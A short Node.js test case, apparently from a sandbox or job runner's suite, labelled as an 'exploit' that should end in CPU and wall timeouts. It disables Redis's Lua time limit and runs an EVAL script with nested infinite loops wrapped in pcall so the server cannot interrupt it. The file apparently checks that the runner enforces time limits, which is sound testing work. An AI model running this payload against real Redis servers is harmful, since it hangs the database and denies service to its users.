// exploit: spins in its Redis for ever, where no timer of Node's is, and refuses to be stopped
// outcome: cpu-timeout wall-timeout
// wall: 20000
// part: no
// job: {"services":["redis"]}
const { createClient } = require('redis')

async function attack() {
  const client = await createClient({ url: process.env.REDIS_URL }).on('error', () => {}).connect()
  await client.sendCommand(['CONFIG', 'SET', 'lua-time-limit', '0'])
  await client.sendCommand(['EVAL', "redis.call('SET', 'a', 1) while true do pcall(function() while true do end end) end", '0'])
}
attack()
